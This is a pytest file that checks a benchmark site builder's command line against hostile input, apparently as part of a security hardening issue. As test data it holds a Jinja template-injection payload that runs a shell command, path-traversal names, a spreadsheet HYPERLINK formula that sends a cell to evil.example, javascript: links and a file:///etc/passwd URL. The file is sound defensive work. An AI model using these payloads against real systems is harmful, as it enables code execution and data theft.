"""Hostile and careless input, met where a user meets it: the command line (issue 9).

Each case is an attack that used to execute code, write outside its folder, crash with a
traceback or be silently ignored; each now fails with a located message (exit 2) or is handled.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from markupsafe import escape
from hypothesis import strategies as st

from builder.benchmarks.cibuzzbench.build_options import options as cibuzzbench_options
from builder.core.names import check_name, fill_template, name_problem, slug
from builder.runs.lines import MAX_RESPONSE_CHARS, LineError, load_line
from builder.runs.reader import read_run
from builder.runs.writer import dump_line
from builder.site.tables_csv import table_csv
from builder.core.errors import InputError
from builder.benchmarks.cibuzzbench.dataset.cibuzzbench import DatasetSpec
from tests.loopback_server import LoopbackServer, reply, status
from tests.shared_builds import cli_in_process

REPO = Path(__file__).resolve().parents[1]
CREATED = "2026-01-01T00:00:00Z"
RUN = "probe-longest_chars-t2-s1111-test.jsonl"
KEY_ENV = "BUZZPROBE_TEST_KEY"
SMALL_SPEC = DatasetSpec(rows=60, split_counts={"train": 48, "test": 12})


# ------------------------------------------------------------------ a project to attack

@pytest.fixture()
def project(tmp_path: Path, base_project: Path) -> Path:
    work = tmp_path / "work"
    shutil.copytree(base_project, work)
    return work


@pytest.fixture()
def small(tmp_path: Path, small_base: Path) -> Path:
    work = tmp_path / "small"
    shutil.copytree(small_base, work)
    return work


def cli(work: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    full_env = {**os.environ, "CIBUZZBENCH_CSV": str(work / "data.csv"), "PYTHONPATH": str(REPO),
                KEY_ENV: "sk-test-key-0123456789", **(env or {})}
    return subprocess.run([sys.executable, "-m", "builder.cli", *args], cwd=work, env=full_env,
                          capture_output=True, text=True, timeout=180)


def quick_cli(work: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """`cli` in this process (shared_builds.cli_in_process): the same folder, CSV and key, without
    a child's start-up; `cli` and `build` stay for what a real process shows (a template that
    reaches a shell, the Mouse scorer's refusal)."""
    return cli_in_process(work, *args, env={"CIBUZZBENCH_CSV": str(work / "data.csv"),
                                            KEY_ENV: "sk-test-key-0123456789", **(env or {})})


def quick_full_build(work: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """`build` in this process (quick_cli)."""
    return quick_cli(work, "build", "--content", "content", *args, env=env)


def build(work: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """The real `buzzprobe build` in a subprocess (full-size data: a few seconds each)."""
    return cli(work, "build", "--content", "content", *args, env=env)


def quick_build(work: Path) -> subprocess.CompletedProcess[str]:
    """The same build on the 60-row dataset, in this process (the CLI prints an InputError as
    "buzzprobe: <message>" with exit 2; this returns the same), to keep the many cases fast."""
    from builder.pipeline import BuildConfig
    from builder.pipeline import build as run_build
    config = BuildConfig(work / "runs", work / "content", work / "site", options=cibuzzbench_options(work / "data.csv", SMALL_SPEC), charts=False)
    try:
        run_build(config)
    except InputError as exc:
        return subprocess.CompletedProcess([], 2, "", f"buzzprobe: {exc}")
    return subprocess.CompletedProcess([], 0, "built", "")


def quick_load(work: Path) -> subprocess.CompletedProcess[str]:
    """Only quick_build's load stage, where run files are read and checked: a case refused there
    needs no site (the same message, as the CLI prints it)."""
    from builder.pipeline import BuildConfig, load_stage
    config = BuildConfig(work / "runs", work / "content", work / "site", options=cibuzzbench_options(work / "data.csv", SMALL_SPEC))
    try:
        load_stage(config)
    except InputError as exc:
        return subprocess.CompletedProcess([], 2, "", f"buzzprobe: {exc}")
    return subprocess.CompletedProcess([], 0, "loaded", "")


def refused(result: subprocess.CompletedProcess[str], *fragments: str) -> None:
    """Exit 2 with every fragment in the message and no traceback."""
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert "Traceback" not in result.stderr, result.stderr
    for fragment in fragments:
        assert fragment in result.stderr, f"{fragment!r} not in: {result.stderr}"


def add_page(work: Path, name: str, body: str) -> None:
    (work / "content" / "pages" / f"{name}.md").write_text(
        f"---\ntitle: T\ndescription: D\n---\n\nfirst line\n\n{body}\n", encoding="utf-8")


def edit_text(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def edit_run_lines(work: Path, change: Callable[[list[str]], None], name: str = RUN) -> None:
    path = work / "runs" / name
    lines = path.read_text(encoding="utf-8").split("\n")
    change(lines)
    path.write_text("\n".join(lines), encoding="utf-8")


def with_header(**changes: object) -> Callable[[list[str]], None]:
    def change(lines: list[str]) -> None:
        header = json.loads(lines[0])
        header.update(changes)
        lines[0] = json.dumps(header, ensure_ascii=True)
    return change


def with_item(index: int, **changes: object) -> Callable[[list[str]], None]:
    def change(lines: list[str]) -> None:
        item = json.loads(lines[index])
        item.update(changes)
        lines[index] = json.dumps(item, ensure_ascii=True)
    return change


def replace_line(index: int, text: str) -> Callable[[list[str]], None]:
    def change(lines: list[str]) -> None:
        lines[index] = text
    return change


# ------------------------------------------------------------------ 1. templates cannot reach Python

@pytest.mark.parametrize("where", ["page", "template"])
def test_templates_cannot_run_a_shell(project: Path, where: str) -> None:
    attack = "{{ lipsum.__globals__['os'].popen('touch PWNED').read() }}"
    if where == "page":
        add_page(project, "evil", attack)
        expected = ["evil.md:8", "__globals__"]
    else:
        edit_text(project / "content" / "templates" / "base.html", '<main id="main">', f'<main id="main">{attack}')
        expected = ["base.html:", "__globals__"]
    result = build(project) if where == "page" else quick_full_build(project)  # one through a real process
    refused(result, "templates cannot reach Python internals", *expected)
    assert not (project / "PWNED").exists()
    assert not (project / "site").exists()


def test_class_and_mro_are_refused_too(small: Path) -> None:
    add_page(small, "evil", "{{ ''.__class__.__mro__[1].__subclasses__() }}")
    refused(quick_build(small), "evil.md:8", "__class__")


# ------------------------------------------------------------------ 2. names are data, not paths

def test_one_slug_rule() -> None:
    assert slug("Qwen2.5-7B") == "qwen2_5-7b"  # the same for probe, import and Mouse runs
    assert slug("meta-llama/Llama-3.1-8B") == "meta-llama-llama-3_1-8b"
    assert slug("Café") == "cafe"
    chinese = slug("模型")
    assert chinese.startswith("m-") and chinese == slug("模型") and chinese != slug("另一个模型")
    assert slug("GPT 模型") != slug("GPT") and slug("GPT 模型").startswith("gpt-")
    assert len(slug("x" * 500)) <= 80 and slug("x" * 500) != slug("x" * 501)
    with pytest.raises(InputError, match="cannot be empty"):
        slug("  ")
    for name in (slug("模型"), slug("..."), slug("a/b")):
        assert name_problem(name) is None
    with pytest.raises(InputError, match="control characters"):  # refused, not slugged (issue 25)
        slug("\x00")


@pytest.mark.parametrize("bad", ["../x", "a/b", "a\\b", "a.b", "..", "", "A", "a\x00b", "x" * 121, "-a", " a"])
def test_run_id_charset(bad: str) -> None:
    assert name_problem(bad) is not None
    with pytest.raises(InputError):
        check_name(bad, "--run-id")


def test_out_template_fills_only_plain_names(tmp_path: Path) -> None:
    assert fill_template("runs/{model_slug}/{run_id}.jsonl", "--out", run_id="r1", model_slug="m") == \
        Path("runs/m/r1.jsonl")
    for template in ("{run_id.__class__}.jsonl", "{run_id!r}.jsonl", "{run_id:>40}.jsonl", "{other}.jsonl"):
        with pytest.raises(InputError, match="plainly"):
            fill_template(template, "--out", run_id="r1", model_slug="m")
    with pytest.raises(InputError):
        fill_template("out/{run_id}.jsonl", "--out", run_id="../../evil", model_slug="m")


@pytest.mark.parametrize("header, fragment", [
    ({"run_id": "../../../escaped"}, "may only use"),
    ({"run_id": "probe.longest"}, "not allowed: '.'"),
    ({"run_id": "a\u0000b"}, "not allowed: '\\x00'"),
])
def test_run_ids_from_headers_are_validated(small: Path, header: dict, fragment: str) -> None:
    edit_run_lines(small, with_header(**header))
    refused(quick_load(small), f"{RUN}:1 [run_id]", fragment)
    assert not (small / "escaped.html").exists() and not (small.parent / "escaped.html").exists()


def test_probe_run_id_and_out_are_confined(project: Path) -> None:
    dry = ("probe", "--model", "m", "--dry-run", "0", "--sample", "3")
    refused(quick_cli(project, *dry, "--run-id", "../../evil"), "--run-id", "may only use")
    refused(quick_cli(project, *dry, "--out", "{run_id.__class__.__mro__}.jsonl"), "--out", "plainly")
    refused(quick_cli(project, "mouse", "probe", "--task", "td", "--data", "x.csv", "--model", "m", "--dry-run", "0",
                "--run-id", "../evil"), "--run-id")


def test_non_latin_model_names_get_distinct_run_ids(project: Path) -> None:
    first = quick_cli(project, "probe", "--model", "模型", "--dry-run", "0", "--sample", "3")
    second = quick_cli(project, "probe", "--model", "另一个模型", "--dry-run", "0", "--sample", "3")
    assert first.returncode == second.returncode == 0, first.stderr
    assert f"run {slug('模型')}-t2-sighted-en-s1111-n3-r0 -> runs/{slug('模型')}/" in first.stdout
    assert first.stdout.splitlines()[0] != second.stdout.splitlines()[0]


def _official_results(work: Path) -> Path:
    from builder.benchmarks.cibuzzbench.dataset.cibuzzbench import load_dataset
    from tests.test_import_official import t3_path, t3_rows, write_csv
    write_csv(t3_path(work / "results"), t3_rows(load_dataset(work / "data.csv")))
    return work / "results"


def test_import_keeps_a_non_latin_name_and_a_config_cannot_escape(project: Path) -> None:
    results = _official_results(project)
    result = quick_cli(project, "import", "results", "--model", "模型", "--out", "imported")
    assert result.returncode == 0, result.stderr
    (path,) = (project / "imported").glob("*.jsonl")
    assert path.name == f"official-{slug('模型')}-t3-all.jsonl"
    assert read_run(path).header.subject_name == "模型"
    (results / "config.json").write_text(json.dumps({"prompt_language": "/../../../outside"}))
    refused(quick_cli(project, "import", "results", "--model", "m", "--out", "again"), "config.json", "prompt_language")
    assert not (project / "again").exists() and not list(project.parent.glob("*outside*"))


@pytest.mark.parametrize("out", ["runs", "content", ".", "notes", "runs/site"])
def test_build_never_replaces_a_folder_it_did_not_make(project: Path, out: str) -> None:
    (project / "notes").mkdir()
    (project / "notes" / "thesis.txt").write_text("years of work")
    before = sorted(str(p.relative_to(project)) for p in project.rglob("*"))
    refused(quick_full_build(project, "--out", out), "--out")
    assert sorted(str(p.relative_to(project)) for p in project.rglob("*")) == before


# ------------------------------------------------------------------ 4. text is text

def test_lines_that_json_cannot_hold_are_located() -> None:
    with pytest.raises(LineError, match="Exceeds the limit"):
        load_line('{"row_id": ' + "9" * 5000 + "}")
    with pytest.raises(LineError, match="nested too deeply"):
        load_line("[" * 100_000 + "]" * 100_000)
    with pytest.raises(LineError, match="more than 64 levels"):
        load_line('{"usage":' + "[" * 70 + "]" * 70 + "}")
    assert load_line('{"r": "a \\ud800 b", "e": "\\ud83d\\ude00"}') == {"r": "a \\ud800 b", "e": "😀"}
    assert dump_line({"r": "a \ud800"}).encode("utf-8") == b'{"r":"a \\ud800"}\n'


@pytest.mark.parametrize("change, fragment", [
    (replace_line(3, '{"type":"item","latency_ms":' + "9" * 5000 + ',"row_id":1,"prediction":"A"}'),
     f"{RUN}:4: not readable: Exceeds the limit"),
    (replace_line(3, '{"type":"item","usage":' + "[" * 100_000 + "]" * 100_000 + "}"),
     f"{RUN}:4: not readable: JSON nested too deeply"),
])
def test_run_lines_with_hostile_json_are_located(small: Path, change, fragment: str) -> None:
    edit_run_lines(small, change)
    refused(quick_load(small), fragment)


def test_surrogates_nul_and_huge_answers_build(small: Path) -> None:
    edit_run_lines(small, with_item(3, response="A \ud800 B\u0000"))
    edit_run_lines(small, with_item(4, response="A" + "x" * 3 * MAX_RESPONSE_CHARS))
    result = quick_build(small)
    assert result.returncode == 0, result.stderr
    (page,) = (small / "site" / "runs").glob("probe-longest_chars*.html")
    html = page.read_text(encoding="utf-8")
    assert "A \\\\ud800 B" in html  # kept, as its escape text
    assert page.stat().st_size < 3 * MAX_RESPONSE_CHARS


def test_mouse_runs_share_the_reader_and_its_line_rules(tmp_path: Path) -> None:
    path = tmp_path / "m.jsonl"
    path.write_text('{"type":"header","benchmark":"mouse","x":' + "9" * 5000 + "}\n")
    with pytest.raises(InputError, match="m.jsonl:1: not readable"):
        read_run(path)


def _surrogate_answer(h, req) -> None:
    body = b'{"choices":[{"message":{"content":"A \\ud800"}}],"usage":{"prompt_tokens":1}}'
    h.send_response(200)
    h.send_header("Content-Type", "application/json")
    h.send_header("Content-Length", str(len(body)))
    h.end_headers()
    h.wfile.write(body)


def _huge_usage(h, req) -> None:
    body = ('{"choices":[{"message":{"content":"A"}}],"usage":{"prompt_tokens":' + "9" * 5000 + "}}").encode()
    h.send_response(200)
    h.send_header("Content-Type", "application/json")
    h.send_header("Content-Length", str(len(body)))
    h.end_headers()
    h.wfile.write(body)


def probe(work: Path, server: LoopbackServer, *extra: str, base_url: str | None = None) -> subprocess.CompletedProcess[str]:
    """`buzzprobe probe` against the loopback server, in this process (quick_cli)."""
    return quick_cli(work, "probe", "--model", "m", "--base-url", base_url or server.url, "--api-key-env", KEY_ENV,
               "--sample", "3", "--retries", "1", "--backoff", "0.01", "--timeout", "5", "--quiet",
               "--out", "out/{run_id}.jsonl", *extra)


def _only_run(work: Path) -> Path:
    (path,) = (work / "out").glob("*.jsonl")
    return path


def test_probe_records_surrogates_and_caps_huge_answers(project: Path) -> None:
    with LoopbackServer(lambda req: _surrogate_answer) as server:
        assert probe(project, server).returncode == 0
    run = read_run(_only_run(project))
    assert run.footer is not None and {i.response for i in run.items} == {"A \\ud800"}
    assert {i.prediction for i in run.items} == {"A"}
    shutil.rmtree(project / "out")
    with LoopbackServer(lambda req: reply("B " + "y" * 100_000)) as server:
        assert probe(project, server).returncode == 0
    run = read_run(_only_run(project))
    assert all(len(i.response or "") == MAX_RESPONSE_CHARS and i.response_truncated for i in run.items)
    assert _only_run(project).stat().st_size < 4 * MAX_RESPONSE_CHARS


def test_probe_treats_an_unreadable_answer_as_a_failed_item(project: Path) -> None:
    with LoopbackServer(lambda req: _huge_usage) as server:
        result = probe(project, server)
    # No item was answered, so the run is set aside and the command fails (issue 33), without a traceback.
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    (aside,) = (project / "out").glob("*.jsonl.failed")
    assert all("malformed response" in (i.error or "") for i in read_run(aside).items)


def test_retry_errors_repairs_a_line_that_failed_to_decode(project: Path) -> None:
    with LoopbackServer(lambda req: reply("A")) as server:
        assert probe(project, server).returncode == 0
        path = _only_run(project)
        lines = path.read_bytes().split(b"\n")
        lines[2] = b'{"type":"item","row_id":\xff\xfe torn'
        path.write_bytes(b"\n".join(lines))
        refused(probe(project, server), "cannot resume")
        result = probe(project, server, "--retry-errors")
    assert result.returncode == 0, result.stderr
    assert "re-asking 1 errored item" in result.stderr
    run = read_run(path)
    assert run.footer is not None and len(run.items) == 3


@settings(max_examples=2000, deadline=None)
@given(st.text(max_size=8) | st.sampled_from([".5", "Inf", "NaN", "-1", " 2", "+.5", "1e3", "inf", "-Infinity",
                                               "nan", "1_0", "\u0661", "\u00a03"]))
def test_a_csv_cell_is_a_number_exactly_when_float_reads_it_whole(text: str) -> None:
    """The first-character shortcut of tables_csv._is_number skips float() only where it fails."""
    from builder.site.tables_csv import _is_number
    try:
        float(text)
        number = text.strip() == text and text.lower() not in ("nan", "inf", "-inf", "+inf", "infinity", "-infinity")
    except ValueError:
        number = False
    assert _is_number(text) == number


_ITEM_TEXT = st.text(max_size=6) | st.sampled_from(["=1+1", "-2", "+x", "@a", "\u202eA", "1e3", "nan", "a,b", 'q"'])


@settings(max_examples=500, deadline=None)
@given(st.lists(st.tuples(_ITEM_TEXT, _ITEM_TEXT, _ITEM_TEXT, st.booleans(),
                          st.none() | st.floats(allow_nan=True, allow_infinity=True)), max_size=6))
def test_a_runs_item_files_are_what_the_general_writers_write(items: list) -> None:
    """catalogue_pages writes each column of a run's item files by its type, with strings kept per
    process; the bytes must be table_csv's and json.dumps' of the same rows."""
    from builder.site.catalogue_pages import ITEM_COLUMNS, _item_rows, items_csv, items_jsonl
    rounded = [(i, g, a, c, None if s is None else round(s, 6)) for i, g, a, c, s in items]
    assert items_csv(items) == table_csv(ITEM_COLUMNS, [(i, g, a, int(c), "" if s is None else s)
                                                        for i, g, a, c, s in rounded])
    assert items_jsonl(items) == "".join(json.dumps(dict(zip(ITEM_COLUMNS, row)), ensure_ascii=False,
                                                    separators=(",", ":")) + "\n" for row in rounded).encode()
    assert all(f"<td>{escape(i)}</td><td>{escape(g)}</td>" in row for (i, g, *_), row in zip(items, _item_rows(items)))


def test_csv_downloads_neutralise_formulas(small: Path) -> None:
    assert table_csv(["=a"], [["=1+1", "+x", "-y", "@z", "\tq", "plain", -0.5, 3]]) == \
        b"'=a\n'=1+1,'+x,'-y,'@z,'\tq,plain,-0.5,3\n"

    def rename(lines: list[str]) -> None:
        header = json.loads(lines[0])
        header["subject"]["name"] = '=HYPERLINK("http://evil.example/?"&A1,"x")'
        lines[0] = json.dumps(header, ensure_ascii=False)
    edit_run_lines(small, rename)
    assert quick_build(small).returncode == 0
    cells = [line for p in (small / "site" / "tables").glob("*.csv") for line in p.read_text().splitlines()
             if "HYPERLINK" in line]
    assert cells and all(",\"'=HYPERLINK" in line or line.startswith("\"'=HYPERLINK") for line in cells)


@pytest.mark.parametrize("file, old, new, fragment", [
    ("reported.yaml", "url: https://arxiv.org/abs/2609.21722", 'url: "javascript:alert(1)"', "sources.cibuzzbench.url"),
    ("site.yaml", "{page: faq, label: FAQ}", '{page: "javascript:alert(1)//", label: FAQ}', "nav[10].page"),
    ("site.yaml", 'url: ""', 'url: "data:text/html,x"', "absolute http(s)"),
    ("mouse/reported.yaml", "url: https://arxiv.org/abs/2604.15841", "url: javascript:alert(1)", "source.url"),
])
def test_links_from_yaml_are_http_or_relative(small: Path, file: str, old: str, new: str, fragment: str) -> None:
    edit_text(small / "content" / file, old, new)
    result = quick_build(small)
    refused(result, file, fragment)
    assert result.stderr.count("\n  ") == 1, result.stderr  # one problem, not one per figure citing the source


# ------------------------------------------------------------------ 6. every other traceback is located

@pytest.mark.parametrize("file, text, fragment", [
    ("site.yaml", "title: [unclosed\n", "site.yaml:2: not valid YAML"),
    ("site.yaml", "- a list\n", "site.yaml:1: expected a mapping"),
    ("reported.yaml", "figures:\n  x: {value: 1\n", "reported.yaml:3: not valid YAML"),
    ("predictions.yaml", "predictions: [\n", "predictions.yaml:2: not valid YAML"),
])
def test_bad_yaml_is_located(small: Path, file: str, text: str, fragment: str) -> None:
    (small / "content" / file).write_text(text, encoding="utf-8")
    refused(quick_build(small), fragment)


def test_reported_value_must_be_a_number(small: Path) -> None:
    edit_text(small / "content" / "reported.yaml", "value: 95.3", "value: abc")
    refused(quick_build(small), "reported.yaml:", "value]: expected a finite number, got 'abc'")


def test_every_problem_of_a_prediction_is_reported(small: Path) -> None:
    (small / "content" / "predictions.yaml").write_text(
        "predictions:\n  - id: x\n    registered: someday\n    supported_when:\n"
        "      - {measure: run_metric, op: '~', threshold: 1}\n", encoding="utf-8")
    result = quick_build(small)
    refused(result, "predictions.yaml:2 [predictions[0].claim]", "predictions.yaml:2 [predictions[0].source]",
            "predictions.yaml:3 [predictions[0].registered]", "predictions.yaml:5 [predictions[0].supported_when[0].op]")


def test_invalid_regex_in_a_prediction_is_located(small: Path) -> None:
    edit_text(small / "content" / "predictions.yaml", "variant: gold_pool, kind: model, metric: macro_f1}",
              'variant: gold_pool, kind: model, metric: macro_f1, subject: "("}')
    refused(quick_build(small), "predictions.yaml:", "supported_when[0].params.subject", "not a valid regular expression")


def test_non_utf8_page_and_template_are_located(small: Path) -> None:
    (small / "content" / "pages" / "bad.md").write_bytes(b"---\ntitle: t\ndescription: d\n---\n\ncaf\xe9\n")
    refused(quick_build(small), "bad.md:6", "not valid UTF-8")
    (small / "content" / "pages" / "bad.md").unlink()
    path = small / "content" / "templates" / "page.html"
    path.write_bytes(path.read_bytes() + b"\n\xff\n")
    refused(quick_build(small), "page.html:", "not valid UTF-8")


def test_template_errors_are_located(small: Path) -> None:
    add_page(small, "evil", "{{ 1/0 }}")
    refused(quick_build(small), "evil.md:8: cannot render: ZeroDivisionError: division by zero")
    (small / "content" / "pages" / "evil.md").unlink()
    edit_text(small / "content" / "templates" / "base.html", '<main id="main">', '<main id="main">\n{{ 1/0 }}')
    refused(quick_build(small), "base.html:", "ZeroDivisionError")


@pytest.mark.parametrize("value", ["yesterday", "1.5", "-1", "99999999999999", "1e9"])
def test_source_date_epoch_garbage(project: Path, value: str) -> None:
    refused(quick_full_build(project, env={"SOURCE_DATE_EPOCH": value}), "SOURCE_DATE_EPOCH")
    refused(quick_cli(project, "runs", "--out", "x", env={"SOURCE_DATE_EPOCH": value}), "SOURCE_DATE_EPOCH")


@pytest.mark.parametrize("option, value", [("--temperature", "nan"), ("--temperature", "inf"),
                                           ("--temperature", "-1"), ("--top-p", "nan"), ("--top-p", "2"),
                                           ("--max-retry-after", "nan"), ("--timeout", "nan"),
                                           ("--timeout", "0"), ("--backoff", "inf")])
def test_probe_numbers_must_be_finite(project: Path, option: str, value: str) -> None:
    result = quick_cli(project, "probe", "--model", "m", "--dry-run", "1", "--sample", "1", option, value)
    assert result.returncode == 2 and option in result.stderr and "Traceback" not in result.stderr


def test_base_url_with_credentials_is_refused_and_a_query_is_kept(project: Path) -> None:
    with LoopbackServer(lambda req: reply("A")) as server:
        with_user = server.url.replace("http://", "http://alice:hunter2secret@")
        result = probe(project, server, base_url=with_user)
        refused(result, "--base-url", "user name or password")
        assert "hunter2secret" not in result.stderr + result.stdout and server.requests == []
        refused(probe(project, server, base_url="file:///etc/passwd"), "--base-url", "http")
        result = probe(project, server, base_url=server.url + "?api-version=2024-06-01")
        assert result.returncode == 0, result.stderr
        assert {r.path for r in server.requests} == {"/v1/chat/completions?api-version=2024-06-01"}
    assert "2024-06-01" not in _only_run(project).read_text()  # the header keeps the host only


def test_max_retry_after_cap_applies(project: Path) -> None:
    """The cap that nan used to disable: a huge Retry-After waits at most --max-retry-after."""
    with LoopbackServer(lambda req: status(429, retry_after=100000)) as server:
        result = probe(project, server, "--retries", "1", "--max-retry-after", "0.01")
    # Every item failed, so the run is set aside and the command fails (issue 33).
    assert result.returncode == 1 and "failed after retries" in result.stderr


# ------------------------------------------------------------------ 7. messages a person can act on

def test_a_duplicated_csv_row_is_named_once(project: Path) -> None:
    lines = (project / "data.csv").read_bytes().split(b"\r\n")
    lines.insert(11, lines[10])
    (project / "data.csv").write_bytes(b"\r\n".join(lines))
    result = quick_full_build(project)
    refused(result, "data.csv:12 [row_id]: duplicate of the row on line 11")
    assert result.stderr.count("data.csv") == 1


def test_upper_case_run_file_is_read(small: Path) -> None:
    (small / "runs" / RUN).rename(small / "runs" / "RUN.JSONL")
    assert quick_build(small).returncode == 0
    assert len(list((small / "site" / "runs").glob("*.html"))) == 2
    edit_run_lines(small, with_item(3, row_id=999999), name="RUN.JSONL")
    refused(quick_load(small), "RUN.JSONL:4")


def test_a_mouse_run_in_runs_is_read_by_the_same_reader(small: Path) -> None:
    """Mouse runs live in runs/ too: a bad one is refused by the build, located; a run of the
    retired `buzzprobe.mouse-run/1` format is named; `mouse score` refuses a CIBuzzBench run."""
    header = {"type": "header", "schema": "buzzprobe.mouse-run/1", "run_id": "mouse-x-td", "benchmark": "mouse",
              "task": "td", "condition": "sighted", "subject": {"kind": "model", "name": "x"}, "option_seed": None,
              "dataset": {"file": "main_eval", "content_sha256": "0" * 64}, "source": {"kind": "probe"},
              "items": {"selection": "all", "n": 1}, "created": CREATED, "tool": {}}
    item = {"type": "item", "row_id": 0, "raw": "1", "parsed": 7}
    (small / "runs" / "mouse-x-td.jsonl").write_text(json.dumps(header) + "\n" + json.dumps(item) + "\n")
    result = quick_build(small)
    refused(result, "mouse-x-td.jsonl:1 [schema]: unsupported schema 'buzzprobe.mouse-run/1'",
            "mouse-x-td.jsonl:2 [parsed]: must be one of 0, 1 or null")
    refused(cli(small, "mouse", "score", str(small / "runs" / RUN), "--data", "data.csv"),
            "not a Mouse run (benchmark 'cibuzzbench')")


@pytest.mark.parametrize("name, fragment", [("provenance", "generated by the build"),
                                            ("My Page", "page name"), ("Index", "page name")])
def test_a_page_named_like_a_generated_page_is_refused(small: Path, name: str, fragment: str) -> None:
    add_page(small, name, "my own page")
    refused(quick_build(small), f"{name}.md", fragment)
